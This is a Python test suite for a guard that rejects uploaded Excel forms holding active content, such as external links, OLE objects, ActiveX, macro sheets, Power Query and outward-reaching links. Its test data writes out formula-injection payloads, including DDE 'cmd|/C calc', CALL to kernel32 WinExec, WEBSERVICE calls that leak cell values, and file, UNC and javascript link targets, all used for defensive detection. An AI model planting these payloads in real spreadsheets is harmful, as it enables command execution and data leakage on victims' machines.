"""What a returned form may never carry, refused by name; what programs add by themselves, taken without a word."""

from __future__ import annotations

import io

import openpyxl
import pytest

from handmade_books import MAIN, OFFICE, RELATIONS, packed, parts, relations, workbook, worksheet
from kinerja_pauh.adapters.active_content import refuse_active_content
from kinerja_pauh.adapters.package_guard import package_from_bytes
from kinerja_pauh.ports import UnusableFile
from untrusted_form import form_bytes, part, repacked

HYPERLINK = (
    f'<Relationships xmlns="{RELATIONS}"><Relationship Id="x" Type="{OFFICE}/hyperlink" Target="%s" '
    'TargetMode="External"/></Relationships>'
)
LINKED_CELL = f'<hyperlinks><hyperlink xmlns:r="{OFFICE}" ref="N7" r:id="x"/></hyperlinks>'
SHEET_RELATIONS = "xl/worksheets/_rels/sheet1.xml.rels"
MARKUP = "http://schemas.openxmlformats.org/markup-compatibility/2006"


def sentence(made):
    """With what parts, or a package, are refused; "" when they are not."""
    data = made if isinstance(made, bytes) else packed(made)
    try:
        refuse_active_content(package_from_bytes(data))
    except UnusableFile as refused:
        said = str(refused)
        assert said.endswith("."), said
        assert ": " in said, said
        return said
    return ""


def with_relation(kind, target, *, part_name="", content="<a/>", source="xl/_rels/workbook.xml.rels"):
    """A small workbook with one more relation, and the part that it leads to."""
    made = parts('<row r="1"><c r="A1"><v>1</v></c></row>')
    old = made.get(source, relations())
    made[source] = old.replace("</Relationships>", f'<Relationship Id="y" Type="{kind}" Target="{target}"/>'
                                                   "</Relationships>")  # fmt: skip
    if part_name:
        made[part_name] = content
    return made


def with_part(name, content="<a/>"):
    return parts('<row r="1"><c r="A1"><v>1</v></c></row>') | {name: content}


def with_type(content_type):
    made = with_part("xl/bagian.xml")
    made["[Content_Types].xml"] = made["[Content_Types].xml"].replace(
        "</Types>", f'<Override PartName="/xl/bagian.xml" ContentType="{content_type}"/></Types>'
    )
    return made


def with_formula(formula):
    return parts(f'<row r="7"><c r="N7"><f>{formula}</f><v>1</v></c></row>')


def with_link(target):
    made = parts(sheet=worksheet('<row r="7"><c r="N7"><v>1</v></c></row>', after=LINKED_CELL))
    return made | {SHEET_RELATIONS: HYPERLINK % target}


def external_link(inside):
    link = f'<externalLink xmlns="{MAIN}" xmlns:r="{OFFICE}">{inside}</externalLink>'
    return with_relation(f"{OFFICE}/externalLink", "externalLinks/externalLink1.xml",
                         part_name="xl/externalLinks/externalLink1.xml", content=link)  # fmt: skip


# --- parts

MICROSOFT = "http://schemas.microsoft.com/office"
EXCEL = "application/vnd.openxmlformats-officedocument.spreadsheetml"

REFUSED = {
    "link to a workbook": (external_link('<externalBook r:id="rId1"/>'), "buku kerja lain"),
    "DDE": (external_link('<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'), "DDE"),
    "OLE link": (external_link('<oleLink r:id="rId1" progId="Package"/>'), "tautan OLE"),
    "connections": (with_relation(f"{OFFICE}/connections", "connections.xml"), "sambungan data"),
    "connections by place": (with_part("xl/connections.xml"), "sambungan data"),
    "connections by type": (with_type(f"{EXCEL}.connections+xml"), "sambungan data"),
    "query table": (with_relation(f"{OFFICE}/queryTable", "../queryTables/queryTable1.xml"), "query"),
    "Power Query": (
        with_part("customXml/item1.xml", '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAA</DataMashup>'),
        "Power Query",
    ),
    "data model": (with_part("xl/model/item.data", b"\0\1"), "model data"),
    "OLE object": (with_relation(f"{OFFICE}/oleObject", "../embeddings/oleObject1.bin"), "OLE"),
    "embedded workbook": (with_part("xl/embeddings/Microsoft_Excel_Sheet1.xlsx", b"PK"), "OLE"),
    "embedded under another name": (with_part("xl/media/image1.exe", b"MZ"), "berkas lain"),
    "binary under another name": (with_part("xl/apa.bin", b"\0"), "berkas lain"),
    "ActiveX": (with_relation(f"{OFFICE}/control", "../activeX/activeX1.xml"), "ActiveX"),
    "ActiveX by type": (with_type("application/vnd.ms-office.activeX+xml"), "ActiveX"),
    "XLM": (with_relation(f"{MICROSOFT}/2006/relationships/xlMacrosheet", "macrosheets/sheet1.xml"), "XLM"),
    "XLM by type": (with_type("application/vnd.ms-excel.intlmacrosheet+xml"), "XLM"),
    "dialog": (with_relation(f"{OFFICE}/dialogsheet", "dialogsheets/sheet1.xml"), "lembar dialog"),
    "RTD": (with_part("xl/volatileDependencies.xml"), "RTD"),
    "WPS macros": (with_part("xl/JDEData.bin", b"\0"), "WPS"),
    "web add-in": (with_part("xl/webextensions/taskpanes.xml"), "add-in web"),
    "old toolbar": (with_part("xl/attachedToolbars.bin", b"\0"), "bilah alat"),
    "signature": (with_part("_xmlsignatures/origin.sigs", b""), "tanda"),
    "encrypted inside": (with_part("EncryptedPackage", b"\0"), "terenkripsi"),
    "pivot from outside": (
        with_part(
            "xl/pivotCache/pivotCacheDefinition1.xml",
            f'<pivotCacheDefinition xmlns="{MAIN}"><cacheSource type="external"/></pivotCacheDefinition>',
        ),
        "pivot",
    ),
    "pivot from another workbook": (
        with_part(
            "xl/pivotCache/pivotCacheDefinition1.xml",
            f'<pivotCacheDefinition xmlns="{MAIN}" xmlns:r="{OFFICE}"><cacheSource type="worksheet">'
            '<worksheetSource r:id="rId1" ref="A1:B2" sheet="Isian"/></cacheSource></pivotCacheDefinition>',
        ),
        "pivot",
    ),
    "ribbon": (
        with_part("customUI/customUI14.xml", f'<customUI xmlns="{MICROSOFT}/2009/07/customui" onLoad="Mulai"/>'),
        "pita",
    ),
    "ribbon button": (
        with_part("userCustomization/customUI.xml", '<mso:a xmlns:mso="x"><mso:button onAction="Ambil"/></mso:a>'),
        "pita",
    ),
    "picture from outside": (
        with_part(SHEET_RELATIONS, (HYPERLINK % "http://contoh.id/a.png").replace("/hyperlink", "/image")),
        "gambar",
    ),
    "anything from outside": (
        with_part("xl/_rels/apa.xml.rels", (HYPERLINK % "http://x.id").replace("/hyperlink", "/attachedTemplate")),
        "di luar dirinya",
    ),
    "path of another workbook": (
        with_part("xl/_rels/apa.xml.rels", (HYPERLINK % "x.xlsx").replace("/hyperlink", "/externalLinkPath")),
        "buku kerja lain",
    ),
    "link in a drawing": (
        with_part("xl/drawings/vmlDrawing1.vml", '<xml><v:shape href="file:///c:/x.exe"><br></xml>'),
        "tautan",
    ),
}  # fmt: skip


@pytest.mark.parametrize("what", REFUSED)
def test_each_active_part_is_refused_by_its_own_name(what):
    made, words = REFUSED[what]
    assert words in sentence(made)


def test_a_member_under_a_zip_password_is_refused_as_that():
    data = bytearray(packed(parts('<row r="1"><c r="A1"><v>1</v></c></row>')))
    at = -1
    while (at := data.find(b"PK\x01\x02", at + 1)) >= 0:
        data[at + 8] |= 1
    assert "sandi" in sentence(bytes(data))


def test_another_kind_of_file_keeps_its_own_sentence_whatever_it_embeds():
    made = {"_rels/.rels": relations(("officeDocument", "word/document.xml")), "word/document.xml": "<a/>",
            "word/embeddings/oleObject1.bin": b"\0"}  # fmt: skip
    assert "bukan buku kerja Excel" in sentence(made)


# --- formulas

REACHING = {
    "cmd|'/C calc'!A0": "DDE",
    "'cmd'|'/C calc'!A0": "DDE",
    "1+MSEXCEL|'\\..\\cmd.exe /c calc'!A0": "DDE",
    "[1]Isian!A1": "berkas lain",
    "SUM('[1]Hasil Kerja'!A1:A9)": "berkas lain",
    "[1]!Nama": "berkas lain",
    "[Buku2.xlsx]Isian!$A$1": "berkas lain",
    "'C:\\data\\[Buku2.xlsx]Isian'!A1": "berkas lain",
    "'\\\\192.168.1.9\\bagi\\[Buku2.xlsx]Isian'!A1": "berkas lain",
    "'http://contoh.id/[b.xlsx]Isian'!A1": "berkas lain",
    "'file:///tmp/b.xlsx'#$Isian.A1": "berkas lain",
    'HYPERLINK("http://contoh.id/?n="&amp;A1,"klik")': "HYPERLINK",
    "hyperlink ( A1 )": "HYPERLINK",
    'IF(A1=1,_xlfn.WEBSERVICE("http://contoh.id/"&amp;B1),0)': "WEBSERVICE",
    '_xlfn.IMAGE("http://contoh.id/a.png")': "IMAGE",
    'RTD("prog","",1)': "RTD",
    'DDE("soffice";"a";"b")': "DDE",
    'CALL("kernel32","WinExec","JCJ","calc",0)': "CALL",
    'REGISTER("a","b")': "REGISTER",
    'REGISTER.ID("a","b")': "REGISTER.ID",
    'EXEC("calc")': "makro Excel lama",
    "GET.WORKBOOK(1)": "makro Excel lama",
    'CUBEVALUE("x","y")': "CUBE",
    "_xlfn._xlws.PY(0,1)": "Python",
    '&#72;YPERLINK("http://contoh.id")': "HYPERLINK",
    'HYPER<![CDATA[LINK("http://contoh.id")]]>': "HYPERLINK",
    'HYPER<!-- -->LINK("http://contoh.id")': "HYPERLINK",
}  # fmt: skip


@pytest.mark.parametrize("formula", REACHING)
def test_a_formula_that_reaches_out_is_refused_by_its_cell(formula):
    said = sentence(with_formula(formula))
    assert said.startswith("Sel Isian!N7 memuat ")
    assert REACHING[formula] in said


@pytest.mark.parametrize(
    "formula",
    [
        "SUM(A1:A9)/2", "'Hasil Kerja'!$A$7", "Tabel1[Nilai]", "SUM(Tabel1[[#This Row],[1]])", 'IF(A1="","|",1)',
        '"lihat [1]Isian!A1 dan HYPERLINK("&amp;A1', "'a|b'!A1", "[0]!Nama", "'[0]Isian'!A1", "callback(1)", "recall",
        'HYPERLINK("#\'Hasil Kerja\'!M7","M7")', "_xlfn.IFS(A1=1,2)", "A1&lt;B1", "GETPIVOTDATA(A1,B1)",
        "Tabel1[Harga|Jumlah]", "Jan:Des!A1", "'Lembar 1:Lembar 3'!A1", "{1,2;3,4}", "NOW()", "INDIRECT(A1)",
    ],
)  # fmt: skip
def test_an_ordinary_formula_is_taken(formula):
    assert sentence(with_formula(formula)) == ""


NAME = "<definedNames><definedName name=\"x\">cmd|'a'!A1</definedName></definedNames>"
ENTRY_RULE = (
    '<dataValidations><dataValidation sqref="A1"><formula1>[1]Isian!A1</formula1></dataValidation></dataValidations>'
)
LOOK = "<conditionalFormatting><cfRule><formula>WEBSERVICE(A1)=1</formula></cfRule></conditionalFormatting>"


@pytest.mark.parametrize(
    ("made", "place"),
    [
        (parts(book=workbook("Isian", more=NAME)), 'Nama "x"'),
        (parts(sheet=worksheet("", after=ENTRY_RULE)), 'Lembar "Isian"'),
        (parts(sheet=worksheet("", after=LOOK)), 'Lembar "Isian"'),
        (with_part("xl/charts/chart1.xml", "<c:chart xmlns:c='x'><c:f>[1]Isian!A1</c:f></c:chart>"), "Berkas ini"),
    ],
)
def test_formulas_outside_of_cells_are_looked_at_too(made, place):
    assert sentence(made).startswith(place)


def test_a_part_in_another_encoding_hides_no_formula():
    sheet = worksheet('<row r="7"><c r="N7"><f>RTD("a","",1)</f><v>1</v></c></row>')
    for encoding, name in (("utf-16", "utf-16"), ("cp1252", "windows-1252")):
        made = parts() | {
            "xl/worksheets/sheet1.xml": f'<?xml version="1.0" encoding="{name}"?>{sheet}'.encode(encoding)
        }
        assert "RTD" in sentence(made)


def test_a_formula_that_reaches_out_is_found_among_many_that_differ_in_digits_only():
    rows = "".join(f'<row r="{n}"><c r="A{n}"><f>B{n}+[0]!Nama{n}</f><v>1</v></c></row>' for n in range(1, 200))
    assert sentence(parts(rows)) == ""
    assert sentence(parts(rows.replace("B77+[0]", "B77+[3]"))).startswith("Sel Isian!A77 memuat")


# --- links that people click


@pytest.mark.parametrize(
    "target",
    ["file:///c:/x.exe", "\\\\192.168.1.9\\bagi\\x", "//192.168.1.9/bagi/x", "javascript:alert(1)", "vbscript:x",
     "bukti.pdf", "../bukti.docx", "C:\\bukti.pdf", "ms-excel:ofe|u|http://x", "search-ms:query=x", "smb://x/y",
     " file:///x", "data:text/html,x", "ftp://contoh.id/x", "FILE:///x", "ht&#9;tp://x"],
)  # fmt: skip
def test_a_link_to_a_file_a_computer_or_a_script_is_refused_by_its_cell(target):
    said = sentence(with_link(target))
    assert said.startswith("Sel Isian!N7 memuat tautan")
    assert target.strip() not in said


@pytest.mark.parametrize(
    "target", ["https://drive.google.com/x?a=1&amp;b=2", "HTTP://contoh.id", "mailto:camat@contoh.id", "#Isian!A1", ""]
)
def test_links_to_web_pages_and_mail_are_evidence_and_taken(target):
    assert sentence(with_link(target)) == ""


# --- what must never be refused


@pytest.mark.parametrize("macros", [False, True])
def test_our_own_forms_pass(macros):
    assert sentence(form_bytes(macros=macros)) == ""


@pytest.mark.filterwarnings("ignore")  # openpyxl says that it does not keep everything
@pytest.mark.parametrize("macros", [False, True])
def test_a_form_saved_by_openpyxl_passes(macros):
    book = openpyxl.load_workbook(io.BytesIO(form_bytes(macros=macros)), keep_vba=macros)
    book.worksheets[1]["A1"].hyperlink = "https://contoh.id"
    book.worksheets[1]["B1"].comment = openpyxl.comments.Comment("Sudah dicek.", "Penilai")
    made = io.BytesIO()
    book.save(made)
    assert sentence(made.getvalue()) == ""


@pytest.mark.parametrize("macros", [False, True])
def test_a_form_saved_by_libreoffice_passes(office, tmp_path, macros):
    path = tmp_path / f"form.{'xlsm' if macros else 'xlsx'}"
    path.write_bytes(form_bytes(macros=macros))
    with office.open(path) as book:
        book.save_as(path.with_stem("lagi"))
    assert sentence(path.with_stem("lagi").read_bytes()) == ""


def test_what_excel_and_wps_add_by_themselves_passes():
    added = {
        "xl/printerSettings/printerSettings1.bin": b"\0\1",
        "xl/calcChain.xml": f'<calcChain xmlns="{MAIN}"><c r="A1" i="1"/></calcChain>',
        "xl/comments1.xml": f'<comments xmlns="{MAIN}"><authors><author>a|b</author></authors></comments>',
        "xl/threadedComments/threadedComment1.xml": "<a xmlns='x'><text>=cmd|'a'!A1</text></a>",
        "xl/persons/person.xml": "<personList xmlns='x'/>",
        "xl/ctrlProps/ctrlProp1.xml": "<formControlPr xmlns='x' objectType='Button' lockText='1'/>",
        "xl/drawings/drawing1.xml": "<xdr:wsDr xmlns:xdr='x'><xdr:sp macro='[0]!PeriksaIsian' textlink=''/></xdr:wsDr>",
        "xl/drawings/vmlDrawing1.vml": '<xml xmlns:v="x"><v:imagedata src="gambar1.png"/><br></xml>',
        "xl/media/image1.png": b"\x89PNG",
        "xl/media/image2.emf": b"\0",
        "xl/theme/theme1.xml": "<a:theme xmlns:a='x'/>",
        "docProps/thumbnail.wmf": b"\0",
        "docProps/custom.xml": "<Properties xmlns='x'><property name='KSOProductBuildVer'/></Properties>",
        "docMetadata/LabelInfo.xml": "<clbl:labelList xmlns:clbl='x'/>",
        "customXml/item1.xml": "<ct:contentTypeSchema xmlns:ct='x'/>",
        "customXml/itemProps1.xml": "<ds:datastoreItem xmlns:ds='x'/>",
        "package/services/metadata/core-properties/0a1b.psmdcp": "<a/>",
        "xl/metadata.xml": f'<metadata xmlns="{MAIN}"/>',
        "xl/pivotCache/pivotCacheDefinition1.xml": (
            f'<pivotCacheDefinition xmlns="{MAIN}"><cacheSource type="worksheet">'
            '<worksheetSource ref="A1:B2" sheet="Isian"/></cacheSource></pivotCacheDefinition>'
        ),
    }  # fmt: skip
    assert sentence(repacked(form_bytes(), added)) == ""


def test_an_attack_is_found_in_a_real_form_too():
    form = form_bytes()
    sheet = part(form, "xl/worksheets/sheet3.xml")
    assert "<f>" in sheet
    changed = sheet.replace("<f>", "<f>0*[1]Isian!A1+", 1)
    assert "Sel Hasil Kerja!" in sentence(repacked(form, {"xl/worksheets/sheet3.xml": changed}))


def test_a_choice_of_newer_programs_is_looked_into():
    inside = f'<mc:AlternateContent xmlns:mc="{MARKUP}"><mc:Choice><f>RTD(1)</f></mc:Choice></mc:AlternateContent>'
    assert "RTD" in sentence(parts(f'<row r="7"><c r="N7">{inside}</c></row>'))
